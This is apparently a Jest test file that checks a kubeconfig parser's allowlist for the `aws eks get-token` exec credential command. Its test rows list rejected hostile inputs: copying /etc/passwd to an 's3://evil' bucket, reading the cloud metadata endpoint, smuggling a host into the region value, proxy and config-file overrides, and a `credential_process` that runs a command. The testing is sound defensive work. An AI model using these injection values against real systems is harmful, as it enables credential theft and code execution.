import { existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { systemClock } from '../clock/clock.ts';
import type { AllowedCommand } from '../config/allowed-command.ts';
import type { ClusterConfig } from '../config/cluster-config.ts';
import { kubeconfig } from '../config/kubeconfig.fixture.ts';
import { parseKubeconfig } from '../config/kubeconfig.ts';
import { createIdentity } from './identity.ts';

/**
 * Replaces the AWS CLI: `configure set` writes a configuration file, and other commands run the `credential_process` of
 * that file.
 */
const STAND_IN = `#!${process.execPath}
const { execSync } = require('node:child_process');
const { existsSync, mkdirSync, readFileSync, writeFileSync } = require('node:fs');
const { HOME, AWS_CONFIG_FILE = HOME + '/.aws/config' } = process.env;
const args = process.argv.slice(2);
if (args[0] === 'configure') {
  mkdirSync(HOME + '/.aws', { recursive: true });
  writeFileSync(AWS_CONFIG_FILE, '[default]\\ncredential_process = ' + args[3] + '\\n');
} else {
  const [, program] = existsSync(AWS_CONFIG_FILE) ? readFileSync(AWS_CONFIG_FILE, 'utf8').split(' = ') : [];
  if (program) execSync(program);
  const status = { token: 'k8s-aws-v1.' + 'stand-in' };
  console.log(JSON.stringify({ apiVersion: 'client.authentication.k8s.io/v1beta1', kind: 'ExecCredential', status }));
}
`;

/** The example of docs/security.md, with credentials that let the real CLI create a token without a network. */
const AWS: AllowedCommand = {
  command: 'aws',
  args: [
    { optional: ['--region', { pattern: '[a-z]{2}(-[a-z]+)+-[0-9]' }] },
    'eks',
    'get-token',
    '--cluster-name',
    { pattern: 'fleet-[a-z0-9-]{1,90}' },
    { optional: ['--output', 'json'] },
  ],
  env: { AWS_STS_REGIONAL_ENDPOINTS: 'regional' },
  inheritEnv: ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY'],
};

const GET_TOKEN = ['--region', 'eu-west-1', 'eks', 'get-token', '--cluster-name', 'fleet-eu'];

let directory: string;
const before = { ...process.env };
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'hostile-'));
  const path = process.env['PATH'] ?? '';
  if (!path.split(delimiter).some((folder) => existsSync(join(folder, 'aws')))) {
    await mkdir(join(directory, 'bin'));
    await writeFile(join(directory, 'bin', 'aws'), STAND_IN);
    await chmod(join(directory, 'bin', 'aws'), 0o755);
    process.env['PATH'] = `${join(directory, 'bin')}${delimiter}${path}`;
  }
  Object.assign(process.env, { HOME: directory, AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE', AWS_SECRET_ACCESS_KEY: 'secret' });
});
afterAll(async () => {
  process.env = before;
  await rm(directory, { recursive: true });
});

interface Choice {
  readonly args?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
}

/** Returns a kubeconfig with the given arguments and variables for `aws`. */
function written({ args = GET_TOKEN, env = {} }: Choice): string {
  const variables = Object.entries(env).map(([name, value]) => ({ name, value }));
  const exec = { apiVersion: 'client.authentication.k8s.io/v1beta1', command: 'aws', args, env: variables };
  return kubeconfig({ user: { exec } });
}

async function authorizationOf(config: ClusterConfig): Promise<unknown> {
  const identity = createIdentity(config, 'h:6443', systemClock);
  try {
    return (await identity.current(AbortSignal.timeout(60_000))).headers['authorization'];
  } finally {
    identity.close();
  }
}

const untrusted = (choice: Choice) =>
  parseKubeconfig(written(choice), { policy: 'untrusted', allow: ['exec'], allowedCommands: [AWS] });

describe('an untrusted kubeconfig that may run aws', () => {
  it('S-12: is tested with the example of the documentation', async () => {
    const docs = await readFile(new URL('../../../../docs/security.md', import.meta.url), 'utf8');
    const plain = (text: string) => text.replaceAll(/[\s"',]/g, '').replaceAll(/([{,])(\w+):/g, '$1$2:');
    const args = JSON.stringify(AWS.args).slice(1, -1);
    expect(plain(docs)).toContain(plain(args).replaceAll('{optional', '{optional'));
    expect(plain(docs)).toContain('env:{AWS_STS_REGIONAL_ENDPOINTS:regional}');
  });

  it('S-12: obtains a token with allowed arguments', async () => {
    expect(await authorizationOf(untrusted({}))).toMatch(/^Bearer k8s-aws-v1\./);
  });

  it.each<[string, Choice]>([
    ['configures a program', { args: ['configure', 'set', 'default.credential_process', 'touch pwned'] }],
    [
      'configures a program instead of getting a token',
      { args: ['configure', 'set', 'credential_process', 'touch pwned'] },
    ],
    ['names another server', { args: [...GET_TOKEN, '--endpoint-url', 'http://169.254.169.254'] }],
    ['reads a file', { args: [...GET_TOKEN.slice(0, -1), 'file:///etc/passwd'] }],
    ['reads a URL', { args: [...GET_TOKEN.slice(0, -1), 'http://169.254.169.254/'] }],
    ['passes an option instead of a value', { args: [...GET_TOKEN.slice(0, -1), '--no-verify-ssl'] }],
    ['reads input from a file', { args: [...GET_TOKEN, '--cli-input-json', 'file://x'] }],
    ['assumes another role', { args: [...GET_TOKEN, '--role-arn', 'arn:aws:iam::1:role/admin'] }],
    ['requests the token of another cluster', { args: [...GET_TOKEN.slice(0, -1), 'prod'] }],
    ['puts a server into the region', { args: ['--region', 'x@evil.example/#', ...GET_TOKEN.slice(2)] }],
    ['runs another command of aws', { args: ['s3', 'cp', '/etc/passwd', 's3://evil'] }],
    ['chooses a configuration file', { env: { AWS_CONFIG_FILE: '/tmp/evil' } }],
    ['chooses a credentials file', { env: { AWS_SHARED_CREDENTIALS_FILE: '/tmp/evil' } }],
    ['chooses a profile', { env: { AWS_PROFILE: 'admin' } }],
    ['chooses a home directory', { env: { HOME: '/tmp/evil' } }],
    ['chooses a proxy', { env: { HTTPS_PROXY: 'http://evil' } }],
    ['chooses a certificate authority', { env: { AWS_CA_BUNDLE: '/tmp/evil' } }],
    ['chooses Python modules', { env: { PYTHONPATH: '/tmp/evil' } }],
    ['chooses a pager', { env: { AWS_PAGER: 'touch pwned' } }],
    ['uses an allowed variable for something else', { env: { AWS_STS_REGIONAL_ENDPOINTS: 'legacy' } }],
  ])('S-12: is refused if it %s', (_, choice) => {
    expect(() => untrusted(choice)).toThrow(/users\[0\]\.user\.exec\.(args|env): /);
  });

  it('S-12: could run a program if its arguments were not restricted', async () => {
    const proof = join(directory, 'pwned');
    const trusted = (choice: Choice) => parseKubeconfig(written(choice), { policy: 'trusted' });
    const configure = { args: ['configure', 'set', 'default.credential_process', `touch ${proof}`] };
    await expect(authorizationOf(trusted(configure))).rejects.toThrow('returned output that is not JSON');
    delete process.env['AWS_ACCESS_KEY_ID'];
    await authorizationOf(trusted({})).catch(() => undefined);
    expect(await readdir(directory)).toContain('pwned');
  });
});
